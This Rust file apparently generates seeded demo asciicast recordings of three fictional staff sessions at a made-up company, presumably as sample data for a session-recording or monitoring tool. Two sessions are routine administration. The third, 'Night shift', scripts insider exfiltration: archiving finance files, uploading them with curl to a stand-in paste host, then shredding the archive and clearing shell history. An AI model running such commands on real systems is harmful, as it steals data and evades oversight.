//! Made-up terminal sessions of the same people: what they typed and what came back, as asciicast version 2. Pure and seeded.

use jiff::{SignedDuration, Timestamp};
use serde_json::json;

use super::Dice;

/// A recorded session.
pub struct Recorded {
    /// Unique among those of one seed.
    pub id: String,
    /// Who.
    pub user: &'static str,
    /// From where.
    pub client: &'static str,
    /// On what.
    pub server: &'static str,
    /// What it was for.
    pub title: &'static str,
    /// When it began.
    pub started_at: Timestamp,
    /// When it ended.
    pub ended_at: Timestamp,
    /// The recording.
    pub bytes: Vec<u8>,
}

/// Somebody's work: what is typed at the prompt and what comes back. A line break in an answer is a new row.
struct Work {
    user: &'static str,
    client: &'static str,
    server: &'static str,
    title: &'static str,
    hours_ago: i64,
    steps: &'static [(&'static str, &'static str)],
}

const WORK: &[Work] = &[
    Work {
        user: "lena.jansen",
        client: "10.20.0.14",
        server: "db1.northwind.example",
        title: "Slow orders, ticket 4711",
        hours_ago: 3,
        steps: &[
            ("uptime", " 14:02:11 up 41 days,  3:17,  1 user,  load average: 6.21, 5.94, 3.02"),
            (
                "psql orders -c 'select state, count(*) from orders group by state'",
                " state   |  count\n---------+---------\n \x1b[32mshipped\x1b[0m | 1204417\n \x1b[33mopen\x1b[0m    |   48210\n \x1b[31mstuck\x1b[0m   |     312\n(3 rows)",
            ),
            (
                "psql orders -c \"select pid, state, wait_event from pg_stat_activity where wait_event is not null\"",
                "  pid  | state  |  wait_event\n-------+--------+---------------\n 20418 | active | \x1b[31mtransactionid\x1b[0m\n 20431 | active | \x1b[31mtransactionid\x1b[0m\n(2 rows)",
            ),
            ("sudo systemctl restart order-worker", "[sudo] password for lena.jansen: \n"),
            ("systemctl is-active order-worker", "active"),
            ("exit", "logout"),
        ],
    },
    Work {
        user: "kofi.garcia",
        client: "10.21.3.9",
        server: "web2.northwind.example",
        title: "Certificate renewal",
        hours_ago: 27,
        steps: &[
            (
                "ls --color /etc/ssl/northwind",
                "\x1b[01;34marchive\x1b[0m  chain.pem  \x1b[01;36mlive\x1b[0m  privkey.pem",
            ),
            ("openssl x509 -enddate -noout -in /etc/ssl/northwind/live/cert.pem", "notAfter=Dec  4 09:12:44 2026 GMT"),
            ("sudo certbot renew --quiet", ""),
            (
                "sudo nginx -t",
                "nginx: the configuration file /etc/nginx/nginx.conf syntax is ok\nnginx: configuration file /etc/nginx/nginx.conf test is \x1b[1msuccessful\x1b[0m",
            ),
            ("sudo systemctl reload nginx", ""),
            ("curl -sI https://northwind.example | head -1", "HTTP/2 \x1b[32m200\x1b[0m"),
            ("exit", "logout"),
        ],
    },
    Work {
        user: "hugo.dahl",
        client: "198.51.100.23",
        server: "files1.northwind.example",
        title: "Night shift",
        hours_ago: 58,
        steps: &[
            ("whoami", "hugo.dahl"),
            ("find /srv/finance -name '*.xlsx' | wc -l", "1873"),
            ("tar czf /tmp/.cache.tgz /srv/finance/2026", "tar: Removing leading `/' from member names"),
            ("ls -lh /tmp/.cache.tgz", "-rw-r--r-- 1 hugo.dahl staff 2.1G Nov 18 03:11 /tmp/.cache.tgz"),
            (
                "curl -T /tmp/.cache.tgz https://paste.example.biz/u/81x",
                "\x1b[31mcurl: (56) Received HTTP code 403 from proxy after CONNECT\x1b[0m",
            ),
            ("shred -u /tmp/.cache.tgz", ""),
            ("history -c", ""),
            ("exit", "logout"),
        ],
    },
];

const COLUMNS: u16 = 100;
const ROWS: u16 = 28;

/// The sessions, the oldest first.
pub fn sessions(seed: u64, until: Timestamp) -> Vec<Recorded> {
    let mut dice = Dice::new(seed ^ 0x7465_726d);
    let mut made: Vec<Recorded> = WORK.iter().map(|work| recorded(work, seed, until, &mut dice)).collect();
    made.sort_by_key(|one| one.started_at);
    made
}

fn recorded(work: &Work, seed: u64, until: Timestamp, dice: &mut Dice) -> Recorded {
    let started_at = until.checked_sub(SignedDuration::from_hours(work.hours_ago)).unwrap_or(until);
    let host = work.server.split('.').next().unwrap_or(work.server);
    let prompt = format!("\x1b[1;32m{}@{host}\x1b[0m:\x1b[1;34m~\x1b[0m$ ", work.user);
    let head = json!({
        "version": 2, "width": COLUMNS, "height": ROWS, "timestamp": started_at.as_second(), "title": work.title,
        "env": { "TERM": "xterm-256color", "SHELL": "/bin/bash" }
    });
    let mut lines = vec![head.to_string()];
    let mut at_us: u64 = 400_000;
    let mut put = |at_us: u64, code: &str, text: &str| {
        lines.push(json!([at_us as f64 / 1e6, code, text]).to_string());
    };
    put(at_us, "o", &format!("\x1b]0;{}@{host}: ~\x07Last login: from {}\r\n{prompt}", work.user, work.client));
    for (typed, answer) in work.steps {
        at_us += 600_000 + 1_000 * dice.below(2_500);
        for character in typed.chars() {
            at_us += 40_000 + 1_000 * dice.below(140);
            put(at_us, "i", &character.to_string());
            put(at_us + 3_000, "o", &character.to_string());
        }
        at_us += 150_000;
        put(at_us, "i", "\r");
        at_us += 30_000 + 1_000 * dice.below(900);
        let shown = answer.replace('\n', "\r\n");
        let end = if answer.is_empty() { "" } else { "\r\n" };
        let next = if *typed == "exit" { "" } else { prompt.as_str() };
        put(at_us, "o", &format!("\r\n{shown}{end}{next}"));
    }
    let bytes = (lines.join("\n") + "\n").into_bytes();
    let length = SignedDuration::from_micros(i64::try_from(at_us).unwrap_or(i64::MAX));
    Recorded {
        id: format!("demo-{seed:x}-{host}"),
        user: work.user,
        client: work.client,
        server: work.server,
        title: work.title,
        started_at,
        ended_at: started_at.checked_add(length).unwrap_or(until),
        bytes,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_seed_gives_the_same_sessions_and_their_times_rise() {
        let until: Timestamp = "2026-11-21T00:00:00Z".parse().expect("a time");
        let made = sessions(7, until);
        assert_eq!(made.len(), WORK.len());
        for (one, again) in made.iter().zip(sessions(7, until)) {
            assert_eq!(one.bytes, again.bytes);
            let text = std::str::from_utf8(&one.bytes).expect("JSON is UTF-8");
            let times: Vec<f64> = text
                .lines()
                .skip(1)
                .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON")[0].as_f64().expect("a time"))
                .collect();
            assert!(times.len() > 20 && times.is_sorted(), "{}", one.id);
            assert!(one.started_at < one.ended_at && one.ended_at < until);
        }
    }
}
